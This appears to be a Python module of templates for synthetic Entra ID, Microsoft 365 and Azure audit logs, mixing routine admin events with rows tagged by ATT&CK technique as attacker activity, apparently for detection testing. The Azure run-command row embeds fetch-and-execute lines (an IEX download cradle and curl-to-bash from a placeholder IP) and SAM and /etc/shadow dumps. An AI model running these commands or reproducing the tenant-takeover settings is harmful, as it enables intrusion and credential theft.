# ruff: noqa: E501
"""More of Entra ID, Azure and Microsoft 365: what people, programs and helpdesks do, and what attackers do quietly.

Rows are as in cloud_tables.py; cloud.py puts both together.
"""
from __future__ import annotations

from .table import table

_APPS = "Office 365 Exchange Online|Microsoft Teams|OfficeHome|Office 365 SharePoint Online|One Outlook Web|Microsoft Office|Outlook Mobile|OneDrive SyncEngine|Microsoft Edge|Windows Sign In|My Profile|Microsoft 365 Security and Compliance Center|ServiceNow|Salesforce|Zoom|«Word»"
MORE_SIGN_IN = table(r"""
# aad people and their phones
0 {"app":"«_APPS»","client":"«Browser|Mobile Apps and Desktop clients»","risk":"none","mfa":"«multiFactorAuthentication|singleFactorAuthentication»","device":"«compliant|»"}
0 {"app":"«Apple Internet Accounts|Samsung Email|Outlook Mobile|iOS Accounts|Microsoft Authenticator App|Microsoft Intune Company Portal»","client":"«Mobile Apps and Desktop clients|Exchange ActiveSync»","risk":"none"}
0 {"app":"«Microsoft Authentication Broker|Microsoft Teams Services|Microsoft Office Web Apps Service|OneDrive SyncEngine|Microsoft Exchange REST API Based Powershell»","client":"Mobile Apps and Desktop clients","risk":"none","protocol":"«none|oAuth2»"}
# aad slips by day
50126 {"app":"«_APPS»","client":"«Browser|Mobile Apps and Desktop clients|Exchange ActiveSync»","risk":"none","reason":"Error validating credentials due to invalid username or password."}
«50074|50076|50072|50079|50158» {"app":"«_APPS»","client":"«Browser|Mobile Apps and Desktop clients»","risk":"none","reason":"«Strong Authentication is required.|User needs to perform multi-factor authentication.|External security challenge was not satisfied.»","mfa":"multiFactorAuthentication"}
«500121|50088|50089» {"app":"«_APPS»","client":"Browser","risk":"none","reason":"«Authentication failed during strong authentication request.|MFA denied; user did not respond to mobile app notification|MFA denied; duplicate authentication attempt|MFA denied; Phone App Reported Fraud is off»","mfa":"multiFactorAuthentication"}
«50055|50144|50173|70043|700082|50133|70044» {"app":"«_APPS»","client":"«Browser|Mobile Apps and Desktop clients»","risk":"none","reason":"«Invalid password, entered expired password.|The refresh token has expired due to inactivity.|Fresh auth token is needed. Have the user re-sign using fresh credentials.»"}
«53003|530003|53000|530002» {"app":"«_APPS»","client":"«Browser|Mobile Apps and Desktop clients»","risk":"none","reason":"«Access has been blocked by Conditional Access policies.|Your device is required to be managed to access this resource.|Device is not in required device state.»"}
«50053|50057|50034» {"app":"«_APPS»","client":"«Browser|Exchange ActiveSync»","risk":"none","reason":"«The account is locked, you've tried to sign in too many times with an incorrect user ID or password.|The user account is disabled.|The user account does not exist in the directory.»"}
«65001|50105|50140|16000|50058|50097|50129|51006|90072» {"app":"«_APPS»","client":"Browser","risk":"none","reason":"«Interrupt|The user or administrator has not consented to use the application|User is not assigned to a role for the application|Session information is not sufficient for single-sign-on.|Device is not Workplace joined»"}
# aad machines and administrators
0 {"app":"«svc»-«Word»","client":"«Authenticated SMTP|IMAP4|Exchange Web Services|Other clients»","risk":"none","reason":"scanner«num:1:20»"}
0 {"app":"«Veeam Backup for Microsoft 365|Azure DevOps|GitHub Actions|Terraform|Datadog|Microsoft Azure CLI|Azure Resource Manager|Windows Azure Service Management API|Jamf Connector|«Word» Sync»","client":"service principal","risk":"none","protocol":"none"}
«7000215|7000222|700016» {"app":"«Terraform|«Word» Sync|Azure DevOps»","client":"service principal","risk":"none","reason":"«Invalid client secret is provided.|The provided client secret keys are expired.|Application was not found in the directory.»"}
0 {"app":"«Azure Portal|Azure Active Directory PowerShell|Microsoft Graph Command Line Tools|Microsoft Azure CLI|Graph Explorer|Microsoft Exchange Online Remote PowerShell|Microsoft Intune»","client":"«Browser|Mobile Apps and Desktop clients»","risk":"none","mfa":"multiFactorAuthentication","device":"compliant","protocol":"«none|deviceCode|none»"}
0 {"app":"«_APPS»","client":"Browser","risk":"«low|low|medium»","riskTypes":["«unfamiliarFeatures|unlikelyTravel»"],"mfa":"multiFactorAuthentication","device":"compliant"}
# T1110.003 aad spray of the quiet kind
«50126|50126|50053|50034|50055|50056|50057» {"app":"«Microsoft Azure CLI|Azure Active Directory PowerShell|Office 365 Exchange Online|Microsoft Office|Microsoft Teams|Microsoft Azure PowerShell|Windows Azure Active Directory|Microsoft Authentication Broker»","client":"«Mobile Apps and Desktop clients|Other clients|Authenticated SMTP|IMAP4|POP3|Browser»","risk":"«none|low|medium»","reason":"«Error validating credentials due to invalid username or password.|The account is locked, you've tried to sign in too many times with an incorrect user ID or password.|The user account does not exist in the directory.»","protocol":"«ropc|none»","_agent":"odd"}
«50076|50079|50158|53003» {"app":"«Microsoft Azure CLI|Azure Active Directory PowerShell|Office 365 Exchange Online»","client":"«Mobile Apps and Desktop clients|Other clients»","risk":"«none|medium»","reason":"«Strong Authentication is required.|Access has been blocked by Conditional Access policies.»","protocol":"ropc","_agent":"odd"}
# T1621 aad prompts sent again and again
500121 {"app":"«OfficeHome|Azure Portal|Microsoft Office|Office 365 Exchange Online»","client":"«Browser|Mobile Apps and Desktop clients»","risk":"«low|medium|high»","reason":"«MFA denied; user declined the authentication|MFA denied; Phone App Reported Fraud|MFA denied; user is blocked|Authentication failed during strong authentication request.»","mfa":"multiFactorAuthentication","riskTypes":["«userReportedSuspiciousActivity|unfamiliarFeatures|suspiciousAuthAppApproval»"]}
# T1528 aad tokens stolen
0 {"app":"«OfficeHome|One Outlook Web|Azure Portal|Microsoft Graph Command Line Tools|Office 365 Exchange Online»","client":"Browser","risk":"«medium|high|none»","riskTypes":["«anonymizedIPAddress|anomalousToken|attackerinTheMiddle|unlikelyTravel|unfamiliarFeatures|nationStateIP»"],"mfa":"«singleFactorAuthentication|multiFactorAuthentication»","reason":"MFA requirement satisfied by claim in the token","_agent":"odd"}
0 {"app":"«Microsoft Authentication Broker|Microsoft Office|Microsoft Azure CLI|Azure Active Directory PowerShell|Microsoft Teams»","client":"Mobile Apps and Desktop clients","risk":"«none|medium»","protocol":"deviceCode","mfa":"singleFactorAuthentication","reason":"MFA requirement satisfied by claim in the token","_agent":"odd"}
0 {"app":"«svc»-«Word»","client":"service principal","risk":"«none|medium|high»","riskTypes":["«leakedCredentials|suspiciousSignins|maliciousApplication|anomalousServicePrincipalActivity»"],"_agent":"odd"}
# aad travel and new devices
0 {"app":"«OfficeHome|Outlook Mobile|Microsoft Teams|Salesforce»","client":"«Browser|Mobile Apps and Desktop clients»","risk":"«low|low|medium»","riskTypes":["«unfamiliarFeatures|unlikelyTravel|anonymizedIPAddress»"],"mfa":"multiFactorAuthentication","device":"compliant","reason":"MFA completed in Azure AD"}
0 {"app":"«Microsoft Azure CLI|Microsoft Teams|Microsoft Authentication Broker|Visual Studio Code»","client":"Mobile Apps and Desktop clients","risk":"none","protocol":"deviceCode","mfa":"multiFactorAuthentication","device":"compliant","reason":"MFA completed in Azure AD"}
50055 {"app":"«OfficeHome|Windows Sign In»","client":"Browser","risk":"none","reason":"The password is expired.","mfa":"singleFactorAuthentication"}
# T1621 aad prompts until someone yields
«500121|50074|50076» {"app":"«OfficeHome|Azure Portal|Office 365 Exchange Online|Microsoft Office»","client":"«Browser|Mobile Apps and Desktop clients»","risk":"«high|medium»","reason":"«MFA denied; user declined the authentication|MFA denied; fraud reported by the user|MFA denied; too many prompts in a short time»","mfa":"multiFactorAuthentication","riskTypes":["«mfaFraud|unfamiliarFeatures|userReportedSuspiciousActivity»"]}
0 {"app":"«OfficeHome|Azure Portal|One Outlook Web»","client":"Browser","risk":"high","reason":"MFA completed in Azure AD","mfa":"multiFactorAuthentication","riskTypes":["«mfaFraud|maliciousIPAddress|anonymizedIPAddress»"],"_agent":"odd"}
# T1539 aad sessions replayed
0 {"app":"«OfficeHome|One Outlook Web|My Signins|My Profile|Microsoft App Access Panel»","client":"Browser","risk":"«medium|high»","riskTypes":["«anomalousToken|attackerinTheMiddle|tokenIssuerAnomaly|suspiciousAPITraffic»"],"mfa":"multiFactorAuthentication","reason":"MFA requirement satisfied by claim in the token","_agent":"odd"}
# T1078.004 aad guests and programs misused
0 {"app":"«Azure Portal|Microsoft Graph Command Line Tools|Azure Active Directory PowerShell»","client":"Mobile Apps and Desktop clients","risk":"«medium|high»","userType":"Guest","protocol":"ropc","mfa":"singleFactorAuthentication","_agent":"odd"}
""".replace("_APPS", _APPS))
MORE_AAD_AUDIT = table(r"""
# aad helpdesk by day
«Add member to group|Remove member from group|Update user|Add user|Disable account|Enable account|Delete user|Restore user|Change user license|Reset user password|Change user password|Update group|Reset password (by admin)|Self-service password reset flow activity progress|User registered security info|User started security info registration|Admin deleted security info|Update StsRefreshTokenValidFrom Timestamp|Register device|Update device|Add registered owner to device|Validate user authentication|Add owner to group|Set group license» {"target":"«other»@«sitedomain»","Group.DisplayName":"«dept»-«tech»"}
«Invite external user|Redeem external user invite|Viral user creation» {"target":"«first».«last»@«domain»","InvitationType":"Guest"}
«Consent to application|Add app role assignment grant to user|Add delegated permission grant|Add service principal» {"app":"«Zoom|Slack|Adobe Acrobat|Miro|Calendly|Salesforce|«Word»»","ConsentAction.Permissions":"«User.Read openid profile|Calendars.ReadWrite offline_access|User.Read.All»","ConsentContext.IsAdminConsent":"«False|True»"}
«Update application – Certificates and secrets management|Add service principal credentials|Update application|Add application|Update service principal» {"app":"«Terraform|«Word» Sync|Veeam Backup|DevOps»","KeyDescription":"[KeyType=«Password|AsymmetricX509Cert»,DisplayName=«rotation «year»|ticket «num:1000:9999»»]"}
«Add eligible member to role in PIM requested (timebound)|Add member to role completed (PIM activation)|Add member to role requested (PIM activation)|Remove member from role (PIM activation expired)» {"Role.DisplayName":"«Helpdesk Administrator|Exchange Administrator|Reports Reader|Global Reader|Global Administrator|User Administrator»","target":"«admin»@«sitedomain»","Justification":"«ticket «num:1000:99999»|patching|onboarding»"}
«Update conditional access policy|Add named location|Update policy» {"target":"«CA0«num:1:30»-«Word»|Office network|MFA for all»","State":"«enabled|enabledForReportingButNotEnforced»"}
# T1098.001 aad credentials added
«Update application – Certificates and secrets management|Add service principal credentials|Add owner to service principal|Add owner to application» {"app":"«Microsoft Graph|Office 365 Exchange Online|«Word» Backup|O365 Mail Reader|Azure AD Connect|«letters:6»»","KeyDescription":"[KeyType=«Password|AsymmetricX509Cert»,KeyUsage=Verify,DisplayName=«|«letters:5»|test|rbf»]","_agent":"odd"}
# T1528 aad consent by trick
«Consent to application|Add delegated permission grant|Add app role assignment to service principal» {"app":"«eM Client|PERFECTDATA SOFTWARE|Newsletter Software Supermailer|O365 Secure|«Word» Document Viewer|Upgrade Mail|Micr0soft Docs|rclone»","ConsentAction.Permissions":"«Mail.Read Mail.Send offline_access|Mail.ReadWrite MailboxSettings.ReadWrite Files.ReadWrite.All|full_access_as_app|RoleManagement.ReadWrite.Directory|AppRoleAssignment.ReadWrite.All|EWS.AccessAsUser.All offline_access»","ConsentContext.IsAdminConsent":"«False|True»"}
# T1098.003 aad roles granted
«Add member to role|Add eligible member to role|Add member to role outside of PIM (permanent)» {"Role.DisplayName":"«Global Administrator|Privileged Role Administrator|Application Administrator|Hybrid Identity Administrator|Exchange Administrator»","target":"««letters:6»|«svc»|«first».«last»_«domain»#EXT#@«site».onmicrosoft.com|«letters:5» app»","_agent":"odd"}
Add member to role {"Role.DisplayName":"«Global Administrator|Company Administrator|User Administrator»","target":"«first».«last»_«brand».com#EXT#@«site».onmicrosoft.com"}
# T1484.002 aad trust changed
«Set federation settings on domain|Set domain authentication|Add unverified domain|Verify domain|Add partner to company|Set company information|Add a partner to cross-tenant access setting|Update cross-tenant access setting» {"target":"««domain»|«letters:6».onmicrosoft.com|«sitedomain»»","IssuerUri":"http://«any.sts/«hex:8»|«domain»/adfs/services/trust»","LiveType":"Federated"}
# T1556.009 aad guards weakened
«Delete conditional access policy|Update conditional access policy|Disable Strong Authentication|Update authorization policy|Delete named location|Add named location|Update authentication methods policy|Disable Desktop Sso|Delete policy» {"target":"«CA0«num:1:30»-«Word»|Require MFA for admins|Block legacy authentication|«letters:4»»","State":"«disabled|report-only|deleted»","IpRanges":"«pub»/32"}
«Admin registered security info|User registered security info|User changed default security info|Register device» {"target":"«other»@«sitedomain»","Method":"«Mobile app notification|Phone|Temporary Access Pass|SoftwareOath»","Device":"«DESKTOP-«HEX:7»|AADInternals|«letters:6»|kali|iPhone»","_agent":"odd"}
# aad guests and secrets in their place
Invite external user {"target":"«first».«last»@«domain»","InvitationType":"Guest","InvitedBy":"«admin»@«sitedomain»","Group.DisplayName":"Project «Word»"}
«Remove service principal credentials|Delete application|Revoke consent|Remove app role assignment from user|Remove delegated permission grant» {"app":"«Word» «Sync|Test|Connector»","reason":"«unused for 90 days|project ended|key rotation»"}
«Remove eligible member from role in PIM completed (permanent)|Remove member from role|Remove member from group» {"Role.DisplayName":"«Global Administrator|User Administrator|Exchange Administrator»","target":"«other»@«sitedomain»","Justification":"«left the team|access review «year»»"}
«Update conditional access policy|Add conditional access policy» {"target":"Require «MFA|compliant device|phishing-resistant MFA» for «admins|guests|all users»","State":"«enabled|enabledForReportingButNotEnforced»","ExcludeGroups":"break-glass"}
«Disable account|Update StsRefreshTokenValidFrom Timestamp|Reset user password|Revoke user sign-in sessions» {"target":"«other»@«sitedomain»","Justification":"«phone lost|left the company|sign-in reported by user»"}
# T1136.003 aad accounts for later
«Add user|Invite external user» {"target":"«svc»«num:1:9»@«site».onmicrosoft.com","UserType":"«Member|Guest»","ForceChangePassword":"False","PasswordPolicies":"DisablePasswordExpiration","_agent":"odd"}
Update user {"target":"«first».«last»@«domain»","UserType":"Member","OldUserType":"Guest","_agent":"odd"}
# T1556.009 aad exceptions for one
Update conditional access policy {"target":"«Require MFA for all users|Block legacy authentication|CA0«num:1:30»-«Word»»","ExcludeUsers":"«person»@«sitedomain»","State":"enabled","_agent":"odd"}
«Update conditional access policy|Add named location» {"target":"«Block legacy authentication|Trusted «letters:4»|Require compliant device»","IsTrusted":"True","IpRanges":"0.0.0.0/«0|1»"}
""")
MORE_O365 = table(r"""
# o365 files by day
«FileAccessed|FilePreviewed|FileDownloaded|FileModified|FileUploaded|FileSyncUploadedFull|FileSyncDownloadedFull|FileCheckedOut|FileRenamed|FileMoved|FileRecycled|FolderCreated|PageViewed|ListViewed|FileAccessedExtended|FileModifiedExtended|FileDeleted» {"SourceFileName":"«file»","SourceRelativeUrl":"Shared Documents/«Word»","SiteUrl":"https://«site».sharepoint.com/sites/«dept»/","UserAgent":"«Microsoft Office/16.0 (Windows NT 10.0; Microsoft Word 16.0.«num:10000:18000»; Pro)|Microsoft SkyDriveSync 2«num:2:4».«num:100:250».0 ship; Windows NT 10.0 (22631)|OneDriveMpc-Transform_Thumbnail/1.0|MSWAC|«browser»»"}
«SharingSet|SecureLinkCreated|SharingInvitationCreated|AddedToSecureLink|CompanyLinkCreated|AnonymousLinkCreated|SharingRevoked|SecureLinkUsed» {"SourceFileName":"«file»","SiteUrl":"https://«site».sharepoint.com/sites/«dept»/","TargetUserOrGroupName":"«other»@«sitedomain»","TargetUserOrGroupType":"«Member|Guest»"}
# o365 mailboxes by day
New-InboxRule {"Name":"«Newsletter|Invoices|«Word»|Jira|From «First»»","MoveToFolder":"«Word»","«From|SubjectContainsWords|FromAddressContainsWords»":"«news@«known»|«word»|jira@«sitedomain»»","StopProcessingRules":"«True|False»"}
«Add-MailboxPermission|Add-RecipientPermission|Add-MailboxFolderPermission|Set-Mailbox|Set-MailboxAutoReplyConfiguration|Set-CASMailbox|New-Mailbox|Set-CalendarProcessing|Enable-Mailbox|Set-DistributionGroup|Add-DistributionGroupMember|Set-MailboxFolderPermission|Update-DistributionGroupMember|Remove-MailboxPermission» {"Identity":"««other»|«dept»»@«sitedomain»","User":"«admin»","AccessRights":"«FullAccess|SendAs|Reviewer|Editor»","AutoMapping":"True"}
«MailItemsAccessed|Send|MoveToDeletedItems|Update|Create|SoftDelete|HardDelete|SendAs» {"ClientInfoString":"«Client=OWA;Action=ViaProxy|Client=MSExchangeRPC|Client=Outlook/16.0.«num:10000:18000»|Client=REST;Client=RESTSystem;;|Client=ActiveSync;Outlook-iOS|Client=WebServices;Mac OS X Mail»","MailAccessType":"«Bind|Sync»","Subject":"«Re: |»«Word» «native»"}
«New-ComplianceSearch|SearchCreated|SearchStarted|New-TransportRule|Set-TransportRule|New-RetentionCompliancePolicy» {"Name":"«legal case «num:10:999»|Disclaimer «Word»|GDPR request «num:1:99»|Retention 7 years»","ContentMatchQuery":"«from:«first».«last»@«sitedomain»|subject:«word»»"}
Set-Mailbox {"Identity":"«other»","DeliverToMailboxAndForward":"True","ForwardingAddress":"«person»@«sitedomain»"}
«UserLoggedIn|UserLoginFailed» {"ResultStatusDetail":"«Success|Redirect|UserError»","RequestType":"«OAuth2:Authorize|Login:login|OAuth2:Token|Kmsi:kmsi|SAS:ProcessAuth»"}
«MemberAdded|TeamsSessionStarted|ChannelAdded|MessageSent|TeamCreated» {"TeamName":"«Word» «dept»","ItemName":"«word»"}
# T1114.003 o365 rules that hide or forward
«New-InboxRule|Set-InboxRule» {"Name":"«.|..|...|,|;|a|«letters:1:3»|_|/»","«DeleteMessage|MarkAsRead»":"True","«SubjectOrBodyContainsWords|SubjectContainsWords|BodyContainsWords|From»":"«invoice;payment;wire;bank|hacked;phish;password;spam|swift;iban;rechnung|«person»@«sitedomain»|helpdesk;suspicious»","MoveToFolder":"«RSS Subscriptions|RSS Feeds|Conversation History|Archive|Notes|Junk Email»","StopProcessingRules":"True"}
«New-InboxRule|Set-Mailbox|Set-InboxRule|New-TransportRule|UpdateInboxRules» {"Identity":"«other»","«ForwardTo|RedirectTo|ForwardingSmtpAddress|ForwardAsAttachmentTo|BlindCopyTo»":"smtp:«first»«last»«num:1:99»@«gmail.com|proton.me|outlook.com|mail.ru|«domain»»","DeliverToMailboxAndForward":"«True|False»"}
# T1098.002 o365 mailboxes opened
«Add-MailboxPermission|Add-RecipientPermission|Add-MailboxFolderPermission» {"Identity":"««person»|ceo|cfo|«dept»»@«sitedomain»","User":"««letters:6»|Default|Anonymous|«svc»»","AccessRights":"«FullAccess|Owner|SendAs|ReadItems»","InheritanceType":"All","AutoMapping":"False"}
«New-ManagementRoleAssignment|Add-RoleGroupMember» {"Role":"ApplicationImpersonation","Name":"«letters:6»","User":"«svc»","Identity":"Organization Management","Member":"«letters:6»"}
# T1562.008 o365 audit bypassed
«Set-MailboxAuditBypassAssociation|Set-AdminAuditLogConfig|Set-Mailbox|Set-OrganizationConfig» {"Identity":"«other»","«AuditBypassEnabled|AuditDisabled»":"True","AuditEnabled":"False","UnifiedAuditLogIngestionEnabled":"False"}
«Remove-RetentionCompliancePolicy|Disable-AntiPhishRule|Remove-SafeLinksRule|Disable-SafeAttachmentRule|Set-MalwareFilterPolicy|Remove-TransportRule|Set-HostedContentFilterPolicy|New-TenantAllowBlockListItems» {"Identity":"«Default|«Word»»","AllowedSenderDomains":"«domain»","EnableSafeLinks":"False"}
# T1213.002 o365 searched and taken
«New-ComplianceSearch|SearchCreated|New-ComplianceSearchAction|SearchExported|SearchQueryPerformed» {"Name":"««letters:4»|test|1»","ContentMatchQuery":"«password OR passwort OR credentials|vpn AND (password OR secret)|*|\"wire transfer\" OR iban|kdbx OR pfx OR id_rsa»","ExchangeLocation":"All","Action":"Export"}
«FileDownloaded|FileSyncDownloadedFull|FileAccessed|FileDownloadedFromBrowser» {"SourceFileName":"«passwords.xlsx|VPN-accounts.docx|«file»|network-diagram.vsdx|keepass.kdbx|backup.zip|customers.csv»","SiteUrl":"https://«site».sharepoint.com/sites/«IT|Finance|HR|Management»/","UserAgent":"«python-requests/2.«num:20:31».0|rclone/v1.6«num:0:6».0|GraphRunner|axios/1.«num:2:7».0|ISV¦rclone.org¦rclone/v1.65.2|Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1|SPO-Downloader|Go-http-client/2.0»"}
MailItemsAccessed {"MailAccessType":"«Bind|Sync»","IsThrottled":"True","ClientInfoString":"«Client=REST;Client=RESTSystem;;|Client=WebServices;ExchangeServicesClient/0.0.0.0;|Client=POP3/IMAP4;Protocol=IMAP4|Client=OWA;python-requests/2.28.1|Client=REST;;eM Client»","AppId":"«guid»"}
«AnonymousLinkCreated|SharingInvitationCreated|SharingSet» {"SourceFileName":"«passwords.xlsx|«dept».zip|customers.csv»","SiteUrl":"https://«site».sharepoint.com/sites/«IT|Finance|HR»/","TargetUserOrGroupName":"«first»«num:1:999»@«gmail.com|proton.me|mail.ru»","TargetUserOrGroupType":"Guest","EventData":"<Type>Edit</Type>"}
# T1534 o365 fraud mail
«Send|SendAs|SendOnBehalf|Create» {"Subject":"«Urgent wire transfer|Updated bank details|RE: Invoice «num:1000:99999» - new account|Payroll change request|«Word» shared a document with you|Your mailbox is almost full|Gift cards needed today»","ClientInfoString":"«Client=OWA;python-requests/2.28.1|Client=REST;;|Client=POP3/IMAP4;Protocol=SMTP|Client=OWA;Action=ViaProxy»","folder":"\\Drafts"}
# o365 administrators at the same tools
«New-TransportRule|Set-TransportRule» {"Name":"«Disclaimer|External banner|Encrypt «Word»|DLP «dept»»","«ApplyHtmlDisclaimerText|PrependSubject|SetHeaderName»":"«This mail came from outside.|[EXTERN]|X-«Word»»","Mode":"Enforce"}
Set-Mailbox {"Identity":"«other»","ForwardingAddress":"«person»@«sitedomain»","DeliverToMailboxAndForward":"True","Notes":"«parental leave|left «date:%Y-%m»|holiday cover»"}
Add-MailboxPermission {"Identity":"«info|sales|billing|support|«dept»»@«sitedomain»","User":"«other»","AccessRights":"FullAccess","InheritanceType":"All"}
«New-ComplianceSearchAction|New-ComplianceCase|New-CaseHoldPolicy|SearchExported» {"Name":"«Case «num:10:999» «Last» v «Last»|DSAR «date:%Y»-«num:1:99»»","Action":"Export","ContentMatchQuery":"from:«first».«last»@«sitedomain» AND sent>=«date:%Y-%m-%d»"}
«New-InboxRule|Set-InboxRule» {"Name":"«Tickets|Alerts «tech»|Travel|Team «Word»»","MoveToFolder":"«Archive|«Word»|Alerts»","SubjectContainsWords":"«[JIRA]|build failed|boarding pass|backup report»","MarkAsRead":"«True|False»"}
«FileDownloaded|FileSyncDownloadedFull» {"SourceFileName":"«file»","SiteUrl":"https://«site»-my.sharepoint.com/personal/«user»/","UserAgent":"Microsoft SkyDriveSync 24.«num:100:250».0 ship; Windows NT 10.0 (22631)","IsManagedDevice":"True"}
«New-ManagementRoleAssignment|Add-RoleGroupMember|Remove-RoleGroupMember» {"Identity":"«Help Desk|View-Only Organization Management|Records Management|Compliance Management»","Member":"«other»","Role":"View-Only Recipients"}
# T1114.003 o365 journals and connectors
«New-JournalRule|New-InboundConnector|New-OutboundConnector|Set-RemoteDomain|New-TransportRule» {"Name":"«letters:1:4»","JournalEmailAddress":"«letters:7»@«proton.me|gmail.com|«domain»»","AutoForwardEnabled":"True","BlindCopyTo":"«letters:7»@«domain»","Enabled":"True"}
# T1564.008 o365 replies kept from sight
«New-InboxRule|Set-InboxRule» {"Name":"«letters:1:2»","From":"«security|helpdesk|ceo|bank»@«sitedomain»","SubjectContainsWords":"«suspicious sign-in;MFA;password reset|undeliverable;bounced;did you send|payment;remittance;bank details»","DeleteMessage":"True","MarkAsRead":"True"}
# T1098.003 o365 administrators made
«Add member to role.|Add eligible member to role.» {"Role.DisplayName":"«Company Administrator|Exchange Service Administrator|Privileged Role Administrator»","target":"«letters:6»_«gmail.com|proton.me»#EXT#@«site».onmicrosoft.com"}
Add service principal credentials. {"target":"«Microsoft Graph|Office 365 Exchange Online|«Word» Backup»","KeyDescription":"KeyType=Password,KeyUsage=Verify,DisplayName=«letters:4»"}
# T1530 o365 files carried off
«FileDownloaded|FileSyncDownloadedFull|FileAccessed» {"SourceFileName":"«salaries «year».xlsx|board minutes.docx|admin passwords.txt|customers.csv|wireguard.conf»","SiteUrl":"https://«site».sharepoint.com/sites/«Finance|IT|HR|Legal|Board»/","IsManagedDevice":"False","UserAgent":"«rclone/v1.6«num:0:8».0|python-requests/2.«num:25:32».0|Mozilla/5.0 (X11; Linux x86_64; rv:«num:90:115».0) Gecko/20100101 Firefox/«num:90:115».0 kali|aria2/1.36.0»"}
""")
MORE_AZURE = table(r"""
# azure routine of teams
«Microsoft.Compute/virtualMachines/instanceView/read|Microsoft.Compute/disks/beginGetAccess/action|Microsoft.Storage/storageAccounts/listKeys/action|Microsoft.KeyVault/vaults/secrets/read|Microsoft.Authorization/roleAssignments/read|Microsoft.Web/sites/config/list/action|Microsoft.ContainerService/managedClusters/listClusterUserCredential/action|Microsoft.Compute/virtualMachineScaleSets/manualUpgrade/action|Microsoft.RecoveryServices/vaults/backupFabrics/protectionContainers/protectedItems/recoveryPoints/restore/action|Microsoft.Insights/diagnosticSettings/write|Microsoft.Network/bastionHosts/write|Microsoft.Network/virtualNetworkGateways/connections/write|Microsoft.Compute/snapshots/write|Microsoft.Automation/automationAccounts/runbooks/publish/action»
Microsoft.Authorization/roleAssignments/write {"role":"«Contributor|Reader|Key Vault Secrets User|Storage Blob Data Contributor»","principalType":"«Group|ServicePrincipal»","description":"ticket «num:1000:99999»"}
Microsoft.Compute/virtualMachines/runCommand/action {"commandId":"«RunPowerShellScript|RunShellScript»","script":"«Get-HotFix|apt-get -y upgrade|Restart-Service W3SVC|systemctl status nginx»"}
# T1651 azure scripts sent to machines
Microsoft.Compute/virtualMachines/«runCommand/action|extensions/write|runCommands/write» {"commandId":"«RunPowerShellScript|RunShellScript»","script":"«IEX(New-Object Net.WebClient).DownloadString('http://«pub»/«letters:3»')|curl http://«pub»/«letters:4» ¦ bash|net user «letters:6» P@ss«num:100:999» /add|reg save HKLM\\\\SAM C:\\\\t\\\\s|whoami /all|cat /etc/shadow»","_agent":"odd"}
# T1098.003 azure owner taken
«Microsoft.Authorization/elevateAccess/action|Microsoft.Authorization/roleAssignments/write|Microsoft.Authorization/roleDefinitions/write» {"role":"«Owner|User Access Administrator|*»","principalType":"«User|ServicePrincipal»","scope":"«/|/subscriptions/«subscription»»","_agent":"odd"}
# T1552 azure secrets collected
«Microsoft.KeyVault/vaults/accessPolicies/write|Microsoft.KeyVault/vaults/write|Microsoft.Storage/storageAccounts/listKeys/action|Microsoft.Automation/automationAccounts/listKeys/action|Microsoft.Web/sites/publishxml/action|Microsoft.ContainerService/managedClusters/listClusterAdminCredential/action|Microsoft.DocumentDB/databaseAccounts/listConnectionStrings/action|Microsoft.ContainerRegistry/registries/listCredentials/action» {"permissions":"«all|get,list,backup,recover»","_agent":"odd"}
# azure clean up and change by ticket
«Microsoft.Insights/diagnosticSettings/delete|Microsoft.Authorization/locks/delete|Microsoft.Network/networkSecurityGroups/securityRules/delete|Microsoft.Compute/snapshots/delete|Microsoft.Resources/subscriptions/resourceGroups/delete» {"resourceGroup":"rg-«test|sandbox|pr«num:1:900»»","reason":"«ticket «num:1000:99999»|environment torn down»"}
Microsoft.Network/networkSecurityGroups/securityRules/write {"access":"Allow","sourceAddressPrefix":"10.«num:0:255».«num:0:255».0/24","destinationPortRange":"«443|1433|5432|22»","direction":"Inbound"}
# T1578.002 azure disks copied away
«Microsoft.Compute/disks/beginGetAccess/action|Microsoft.Compute/snapshots/beginGetAccess/action|Microsoft.Compute/snapshots/write» {"access":"Read","durationInSeconds":«num:86400:9999999»,"source":"«DC|SQL|CA»-osdisk","_agent":"odd"}
# T1562.001 azure defences switched off
«Microsoft.Security/pricings/write|Microsoft.Security/autoProvisioningSettings/write|Microsoft.SecurityInsights/alertRules/delete|Microsoft.OperationalInsights/workspaces/delete|Microsoft.Authorization/policyAssignments/delete|Microsoft.Network/firewallPolicies/delete» {"pricingTier":"Free","autoProvision":"Off","_agent":"odd"}
# T1490 azure backups made useless
«Microsoft.RecoveryServices/vaults/backupconfig/write|Microsoft.RecoveryServices/vaults/backupFabrics/protectionContainers/protectedItems/delete|Microsoft.Authorization/locks/delete|Microsoft.Storage/storageAccounts/blobServices/write» {"softDeleteFeatureState":"Disabled","resourceGroup":"rg-«prod|backup»","_agent":"odd"}
""")
